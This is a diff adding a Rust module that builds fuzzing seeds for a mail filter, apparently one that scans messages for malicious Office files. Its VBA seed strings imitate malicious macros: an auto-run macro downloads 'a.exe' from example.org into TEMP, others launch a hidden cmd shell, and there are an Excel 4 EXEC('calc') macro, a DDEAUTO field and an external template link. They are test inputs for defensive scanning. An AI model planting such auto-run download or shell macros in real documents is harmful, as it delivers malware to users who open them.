@@ -1,0 +1,318 @@
+//! What fuzzing begins with: the samples, what the generators of the tests make, and dialogs written here.
+
+use std::fs;
+use std::path::Path;
+
+use data_encoding::BASE64_MIME_PERMISSIVE;
+
+use crate::common::office::{self, ModuleKind};
+use crate::common::ooxml::{self, Member};
+use crate::common::{awkward, milter, ovba, samples};
+
+/// The seeds of a target.
+pub fn of(name: &str) -> Vec<Vec<u8>> {
+    match name {
+        "cfb" => compound_files(),
+        "config" => configurations(),
+        "entry" => entries(),
+        "file" => named_files(),
+        "header" => messages().into_iter().chain(fields()).collect(),
+        "message" | "mime" => messages(),
+        "markup" => pages(),
+        "milter_codec" | "milter_session" => milter_dialogs(),
+        "ooxml" => packages(),
+        "smtp_next_hop" => next_hops(),
+        "smtp_session" | "smtp_wire" => smtp_dialogs(),
+        "vba_code" => SOURCES.iter().map(|source| source.as_bytes().to_vec()).collect(),
+        "vba_project" => projects(),
+        "zip" => archives(),
+        _ => Vec::new(),
+    }
+}
+
+/// The messages of the samples, and one of each awkward kind.
+fn messages() -> Vec<Vec<u8>> {
+    let mut messages: Vec<Vec<u8>> = samples::all().into_iter().map(|sample| sample.message).collect();
+    messages.extend(awkward::table().into_iter().map(|case| case.raw));
+    messages
+        .push(b"X-Sekisho-Verdict: clean\r\nSubject: =?utf-8?q?a?=\r\n b\r\nx-SEKISHO-id : 1\r\n\r\nbody\r\n".to_vec());
+    messages.push(b"Received: a\r\nReceived: b\r\nMessage-ID: <1@x>\r\nFrom: A <a@example.org>, b@x\r\n\r\n".to_vec());
+    messages
+}
+
+/// The files in the samples, as they are attached.
+fn attachments() -> Vec<Vec<u8>> {
+    let mut files = Vec::new();
+    for sample in samples::all() {
+        let text = String::from_utf8_lossy(&sample.message).into_owned();
+        for part in text.split("Content-Transfer-Encoding: base64\r\n\r\n").skip(1) {
+            let coded = part.split("\r\n--").next().unwrap_or_default();
+            files.extend(BASE64_MIME_PERMISSIVE.decode(coded.as_bytes()));
+        }
+    }
+    files
+}
+
+fn compound_files() -> Vec<Vec<u8>> {
+    let modules = [("ThisDocument", SOURCES[0], ModuleKind::Document), ("Module1", SOURCES[1], ModuleKind::Standard)];
+    vec![
+        office::doc("Please enable content."),
+        office::xls(&["a", "b"]),
+        office::vba_project(&modules),
+        office::doc_with_macros("text", &modules[..1]),
+        office::xls_with_macros(&["a"], &modules[1..]),
+        office::Compound::new()
+            .stream("/\u{1}Ole10Native", b"\x20\0\0\0\x02\0a.exe\0a.exe\0\0\0\x03\0\x06\0\0\0a.exe\0\x04\0\0\0MZ\0\0")
+            .finish(),
+        office::Compound::version_4()
+            .stream("/EncryptionInfo", &[4, 0, 4, 0])
+            .stream("/EncryptedPackage", &[7; 64])
+            .finish(),
+    ]
+}
+
+fn archives() -> Vec<Vec<u8>> {
+    let member = |name: &'static str, bytes: &[u8]| Member { name, bytes: bytes.to_vec() };
+    let inner = ooxml::zip(&[member("a.js", b"WScript.Echo(1)"), member("b/c.txt", b"text")]);
+    vec![
+        ooxml::zip(&[]),
+        ooxml::zip(&[member("inner.zip", &inner), member("eicar.com", &samples::eicar())]),
+        ooxml::word(&["text"], None),
+        samples::macro_document(),
+        ooxml::workbook(&["a"], Some(office::vba_project(&[("Module1", SOURCES[1], ModuleKind::Standard)]))),
+        inner,
+    ]
+}
+
+fn named_files() -> Vec<Vec<u8>> {
+    let names = ["a.docm", "a.pdf.exe", "\u{202e}cod.exe", "見積書.xlsm", "a.doc.zip", "a.html"];
+    let files = attachments().into_iter().chain(compound_files()).chain(archives()).chain(pages());
+    let mut files: Vec<Vec<u8>> =
+        files.zip(names.iter().cycle()).map(|(file, name)| [name.as_bytes(), b"\n", &file].concat()).collect();
+    files.extend(
+        [
+            &b"a\nRar!\x1a\x07\x01\0"[..],
+            b"a\n7z\xbc\xaf\x27\x1c",
+            b"a.js\nvar a",
+            b"a\nMZ",
+            b"a\n%PDF-1.7",
+            b"a\n{\\rtf1",
+        ]
+        .map(<[u8]>::to_vec),
+    );
+    files
+}
+
+/// Octets of a record: its kind, its content, two NULs.
+fn record(kind: u8, content: &[u8]) -> Vec<u8> {
+    [&[kind], content, &[0, 0]].concat()
+}
+
+fn packages() -> Vec<Vec<u8>> {
+    const TYPES: &[u8] = br#"<Types><Override PartName="/word/document.xml" ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/><Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/></Types>"#;
+    const RELATIONS: &[u8] = br#"<Relationships><Relationship Id="r" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="word/document.xml"/></Relationships>"#;
+    const OUTSIDE: &[u8] = br#"<Relationships><Relationship Id="r" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="http://example.org/a.dotm" TargetMode="External"/></Relationships>"#;
+    const TEXT: &[u8] = br#"<w:document><w:body><w:p><w:r><w:t>Enable &amp;content</w:t></w:r><w:instrText> DDEAUTO c:\\a "b" </w:instrText></w:p></w:body></w:document>"#;
+    const SHEET: &[u8] = br#"<workbook><sheets><sheet name="a" sheetId="1" state="veryHidden" r:id="rId1"/></sheets><definedNames><definedName name="_xlnm.Auto_Open">a!$A$1</definedName></definedNames></workbook>"#;
+    vec![
+        [record(0, TYPES), record(1, RELATIONS), record(2, TEXT), record(3, OUTSIDE)].concat(),
+        [
+            record(0, TYPES),
+            record(1, RELATIONS),
+            record(2, TEXT),
+            record(6, OUTSIDE),
+            record(4, b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"),
+        ]
+        .concat(),
+        [record(0, TYPES), record(8, SHEET), record(9, OUTSIDE), record(10, b"<sst><si><t>a</t></si></sst>")].concat(),
+        [record(12, b"<macrosheet><f>EXEC(\"calc\")</f></macrosheet>"), record(13, OUTSIDE)].concat(),
+    ]
+}
+
+const SOURCES: [&str; 9] = [
+    "Private Sub Document_Open()\r\n    Dim a As String, b(2)\r\n    a = \"cmd\" & Chr(32) & StrReverse(\"c/\")\r\n    Shell a, vbHide\r\nEnd Sub\r\n",
+    "Sub Hello(x, Optional y = 3)\nFor i = 1 To 10 Step 2\nIf i > x Then s = s & Mid(\"abcdef\", i, 1) Else GoTo ende\nNext i\nende:\nMsgBox s\nEnd Sub\n",
+    "Declare PtrSafe Function u Lib \"urlmon\" Alias \"URLDownloadToFileA\" (ByVal a As Long) As Long\nSub AutoOpen()\nu 0, \"http://example.org/a.exe\", Environ(\"TEMP\") & \"\\a.exe\", 0, 0\nEnd Sub",
+    "Sub Workbook_Open()\nWith CreateObject(\"MSXML2.XMLHTTP\")\n.Open \"GET\", \"http://example.org\", False\n.Send\nEnd With\nEnd Sub\0Function f(a): f = Replace(Join(Split(a, \"x\"), \"\"), \"q\", Hex(255)): End Function",
+    "Const A = 3.5e2, B = &HFF&, C = #1/1/2020#\nSub t()\nSelect Case A\nCase 1 To 3: x = A ^ B \\ C Mod 7\nCase Else\nDo While x < 10: x = x + 1: Loop\nEnd Select\nEnd Sub",
+    "Function d(s)\nFor i = 1 To Len(s) Step 2\nd = d & Chr(CLng(\"&H\" & Mid$(s, i, 2)) Xor 7)\nNext\nEnd Function\nSub Auto_Open()\nGetObject(d(\"7069\")).Create _\n  d(\"636d64\"), Null\nEnd Sub",
+    "#If VBA7 Then\nSub a(): Application.Run \"b\": End Sub\n#End If\nSub b()\nCallByName c, \"Sh\" & \"ell\", 1, \"calc\"\nOpen \"a.bat\" For Output As #1\nPrint #1, \"echo\"\nClose #1\nEnd Sub",
+    "Attribute VB_Name = \"x\"\nAttribute VB_Base = \"0{FCFB3D2A-A0FA-1068-A738-08002B3371B5}\"\nPublic Property Let p(v): Set o = New Scripting.FileSystemObject: o.CreateTextFile(v).Write v: End Property",
+    "Sub Array_()\nb = Array(104, 105)\nFor Each c In b\ns = s + ChrW(c - 1)\nNext c\nReDim Preserve q(UBound(b))\nWhile s <> \"\": s = Left(s, Len(s) - 1): Wend\nExecute s\nEnd Sub",
+];
+
+fn projects() -> Vec<Vec<u8>> {
+    let listed = [
+        (b"Module1".to_vec(), "Module1", ModuleKind::Standard),
+        (b"ThisDocument".to_vec(), "ThisDocument", ModuleKind::Document),
+    ];
+    let dir = ovba::dir(1252, &listed, 0);
+    let names = [&b"\xCC\x61\xFF\xFF\x00\x00\x01"[..], b"Shell\0x"].concat();
+    let source = |n: usize| ovba::stored_source("Module1", SOURCES[n], ModuleKind::Standard).into_bytes();
+    vec![
+        [
+            record(8, &dir.iter().copied().map(|octet| if octet == 0 { 1 } else { octet }).collect::<Vec<u8>>()),
+            record(9, &source(0)),
+        ]
+        .concat(),
+        [record(0, &ovba::compress(&dir)), record(9, &source(1)), record(10, &source(2)), record(3, &names)].concat(),
+        [record(15, &source(0)), record(4, b"Module=Module1\r\n"), record(5, &[7; 20])].concat(),
+        [record(1, &ovba::compress(&source(3))), record(6, b"cmd /c calc")].concat(),
+        ovba::compress(SOURCES[5].as_bytes()),
+    ]
+}
+
+fn pages() -> Vec<Vec<u8>> {
+    let pages = [
+        "<html><head><title>a</title><style>b{}</style></head><body><p class=x>Please press &quot;Enable Content&#34;</p><script>var a='<';</script><!-- c --></body></html>",
+        "<?xml version=\"1.0\"?><a:b xmlns:a='x'><a:c d=\"&lt;&#x41;\"/><![CDATA[e<f]]></a:b>",
+        "The password is: Tokyo2026\nパスワード：「abc-123」\r\n解凍パスワードは別途お送りします。",
+        "Open the attachment. Password - 4711 <br> コンテンツの有効化 をクリックしてください",
+        "a\u{202e}b\u{200b}c &nbsp;&unknown; <a href=http://example.org/?q=1&amp;b>link</a> <img src=\"cid:1\" alt=\"2\">",
+    ];
+    pages.iter().map(|page| page.as_bytes().to_vec()).collect()
+}
+
+fn fields() -> Vec<Vec<u8>> {
+    let values = [
+        "attachment; filename=\"a.doc\"",
+        "attachment; filename*0*=utf-8''%e8%a6%8b; filename*1=b.doc; name=\"=?utf-8?B?6KaL?=\"",
+        "multipart/mixed; boundary=\"b 1\"; (comment (nested)) charset=us-ascii",
+        "attachment; filename==?ISO-2022-JP?B?GyRCOCtAUT1xGyhC?=.xls; filename=b",
+        "text/plain; name=a b c.doc; name=\"a\\\"b\r\n c\"",
+        "iso-2022-jp\n\u{1b}$B8+@Q=q\u{1b}(B",
+        "=?utf-8?q?a_=3d?= =?shift_jis?B?jKk=?= =?x?x?x?=",
+        "base64",
+    ];
+    values.iter().map(|value| format!("Content-Disposition: {value}\r\n\r\n").into_bytes()).collect()
+}
+
+fn milter_dialogs() -> Vec<Vec<u8>> {
+    let frame = milter::frame;
+    let negotiation = |version: u32, actions: u32, steps: u32| {
+        frame(b'O', [version, actions, steps].map(u32::to_be_bytes).as_flattened())
+    };
+    let client = [
+        frame(b'D', b"Cj\0mx.example\0{client_addr}\x00192.0.2.1\0"),
+        frame(b'C', b"client.example\x004\x00\x19192.0.2.1\0"),
+        frame(b'H', b"client.example\0"),
+    ]
+    .concat();
+    let letter = |name: &[u8], value: &[u8]| {
+        [
+            frame(b'D', b"M{auth_authen}\0user\0i\0QUEUE\0"),
+            frame(b'M', b"<a@example.org>\0SIZE=10\0"),
+            frame(b'R', b"<b@example.jp>\0NOTIFY=NEVER\0"),
+            frame(b'R', b"<c@example.jp>\0"),
+            frame(b'T', b""),
+            frame(b'L', &[name, b"\0", value, b"\0"].concat()),
+            frame(b'L', b"Received\0 from x\n\tby y\0"),
+            frame(b'N', b""),
+            frame(b'B', b"text\r\n.\r\nmore\r\n"),
+            frame(b'E', b""),
+        ]
+        .concat()
+    };
+    let all = (0x1ff, 0x1f_ffff);
+    let answers = |octets: &[u8]| octets.iter().copied().cycle().take(64).collect::<Vec<u8>>();
+    vec![
+        [
+            negotiation(6, all.0, all.1),
+            client.clone(),
+            letter(b"Subject", b" a"),
+            frame(b'Q', b""),
+            answers(&[0, 8, 24]),
+        ]
+        .concat(),
+        [
+            negotiation(2, 0, 0),
+            client.clone(),
+            letter(b"Subject", b"a\n b"),
+            letter(b"X-Sekisho-Id", b"1"),
+            answers(&[255, 3, 4]),
+        ]
+        .concat(),
+        [
+            negotiation(6, all.0, 0x400),
+            letter(b"a", b""),
+            frame(b'A', b""),
+            frame(b'K', b""),
+            client.clone(),
+            letter(b"b", b"c"),
+            answers(&[5, 1, 2]),
+        ]
+        .concat(),
+        [
+            negotiation(4, 0x3f, 0x7f),
+            client,
+            frame(b'U', b"XYZ\0"),
+            frame(b'M', b"<>\0"),
+            frame(b'E', b"all"),
+            answers(&[13, 61]),
+        ]
+        .concat(),
+    ]
+}
+
+fn smtp_dialogs() -> Vec<Vec<u8>> {
+    let dialogs = [
+        "EHLO client.example\r\nXFORWARD NAME=a.example ADDR=192.0.2.1\r\nMAIL FROM:<a@example.org> SIZE=20 BODY=8BITMIME\r\nRCPT TO:<b@example.jp>\r\nRCPT TO:<c@example.jp> NOTIFY=NEVER\r\nDATA\r\nSubject: a\r\n\r\n..\r\nb\r\n.\r\nQUIT\r\n",
+        "LHLO client.example\r\nMAIL FROM:<>\r\nRCPT TO:<b@example.jp>\r\nRCPT TO:<c@example.jp>\r\nDATA\r\na\r\n.\r\nRSET\r\nMAIL FROM:<\"a b\"@example.org> RET=HDRS ENVID=x+3D\r\nRCPT TO:<x@y> ORCPT=rfc822;x@y\r\nDATA\r\nb\n.\nc\r\n.\r\n",
+        "HELO a\r\nNOOP\r\nVRFY b\r\nHELP\r\nEXPN c\r\nSTARTTLS\r\nEHLO b\r\nXCLIENT ADDR=IPV6:2001:db8::1 NAME=[UNAVAILABLE] LOGIN=x\r\nEHLO c\r\nMAIL FROM:<a@b> SMTPUTF8 AUTH=<>\r\nDATA\r\nRCPT TO:<d>\r\nQUIT\r\n",
+        "250-mx.example\r\n250-SIZE 1000\r\n250-8BITMIME\r\n250-XFORWARD NAME ADDR\r\n250 DSN\r\n354 go\r\n550 5.1.1 no\r\n421 4.4.2 bye\r\n",
+    ];
+    let tails: [&[u8]; 4] = [&[0, 1, 2, 3], &[1, 0, 0, 130], &[51, 2, 7], &[72, 5, 6]];
+    let with = |(dialog, tail): (&&str, &&[u8])| {
+        dialog.bytes().chain(tail.iter().copied().cycle().take(64)).collect::<Vec<u8>>()
+    };
+    dialogs.iter().zip(&tails).map(with).collect()
+}
+
+fn next_hops() -> Vec<Vec<u8>> {
+    let script = |kind: u8, replies: &[&str]| replies.iter().flat_map(|reply| record(kind, reply.as_bytes())).collect();
+    let hello = "250-mx\r\n250-SIZE 0\r\n250-XFORWARD NAME ADDR\r\n250 PIPELINING\r\n";
+    let ok = "250 2.0.0 Ok\r\n";
+    vec![
+        script(0, &["220 mx ESMTP\r\n", hello, ok, ok, ok, ok, "354 go\r\n", ok, ok, "221 bye\r\n"]),
+        script(1, &["220 mx LMTP\r\n", hello, ok, ok, ok, "550 5.1.1 no\r\n", "354 go\r\n", "450 4.2.0 later\r\n", ok]),
+        script(1, &["220 mx LMTP\r\n", hello, ok, ok, ok, ok, "354 go\r\n", "450 4.2.0 later\r\n250 2.0.0 Ok\r\n", ok]),
+        script(1, &["220 mx\r\n", "500 what\r\n", "250 mx\r\n", ok, ok, ok, "354 go\r\n", "250 a\r\n250 b\r\n", ok]),
+        script(0, &["220 mx\r\n", "502 what\r\n", ok, "421 4.4.2 bye\r\n"]),
+        script(0, &["220-a\r\n220 b\r\n", "250 a\r\n250 b\r\n"]),
+    ]
+}
+
+fn configurations() -> Vec<Vec<u8>> {
+    let shipped = fs::read(Path::new(env!("CARGO_MANIFEST_DIR")).join("config/sekisho.toml")).unwrap();
+    let uncommented: String = String::from_utf8_lossy(&shipped)
+        .lines()
+        .map(|line| line.strip_prefix('#').filter(|rest| !rest.starts_with(' ')).unwrap_or(line).to_owned() + "\n")
+        .collect();
+    let rules = [
+        "[[rule]]\nname = \"a\"\nwhen.finding = [\"vba-*\", \"eicar-test-file\"]\nwhen.verdict = \"malicious\"\nnot.sender = [\"*@partner.example\"]\naction = \"quarantine\"\n",
+        "[[rule]]\nname = \"b\"\nwhen.attachment_name = [\"*.exe\"]\nwhen.attachment_type = [\"exe\", \"ooxml-*\"]\naction = \"reject\"\nreply = \"554 5.7.1 no {id}\"\n[[rule]]\nname = \"c\"\naction = \"tag\"\nadd_header = { \"X-A\" = \"{verdict}\" }\nsubject_prefix = \"[x] \"\n",
+        "[limits]\nmax_files = 10\nmax_scan_size = \"1 MiB\"\n[http]\nlisten = \"[::1]:9125\"\n[mail]\nlocal_networks = [\"10.0.0.0/8\"]\n",
+        "[[listener]]\nkind = \"milter\"\nlisten = \"unix:milter.sock\"\nrelease_to = \"127.0.0.1:10026\"\n[[listener]]\nkind = \"lmtp\"\nmode = \"after-queue\"\n",
+    ];
+    [shipped, uncommented.into_bytes()].into_iter().chain(rules.iter().map(|text| text.as_bytes().to_vec())).collect()
+}
+
+fn entries() -> Vec<Vec<u8>> {
+    let entry = serde_json::json!({
+        "schema": "sekisho.quarantine/1", "id": sekisho::store::QuarantineId::new(jiff::Timestamp::UNIX_EPOCH).as_str(),
+        "state": "held", "received_at": "2026-11-20T01:00:00Z", "held_at": "2026-11-20T01:00:00.5Z", "ended_at": null,
+        "verdict": "malicious", "complete": true, "rule": "default", "line": 3,
+        "explanation": {"en": "a", "ja": "b"}, "size": 10, "sha256": "00", "message_id": "<1@x>", "subject": null, "from": "a",
+        "envelope": sekisho::envelope::Envelope::default(), "held": [], "listener": "127.0.0.1:10025",
+        "mode": "before-queue", "next_hop": "127.0.0.1:10026", "release": null,
+        "notes": [{"at": "2026-11-20T01:00:00Z", "text": "n"}], "facts": {"version": 1}, "later": [1, {"a": 1.5}],
+    });
+    let mut released = entry.clone();
+    released["state"] = "releasing".into();
+    released["release"] = serde_json::json!({
+        "started_at": "2026-11-20T01:00:00Z", "by": "uid 0", "next_hop": "x", "dot_sent_at": null,
+        "refused": [], "reply": "250 ok",
+    });
+    let id = entry["id"].as_str().unwrap_or_default().as_bytes().to_vec();
+    vec![serde_json::to_vec(&entry).unwrap(), serde_json::to_vec(&released).unwrap(), id, b"held".to_vec()]
+}
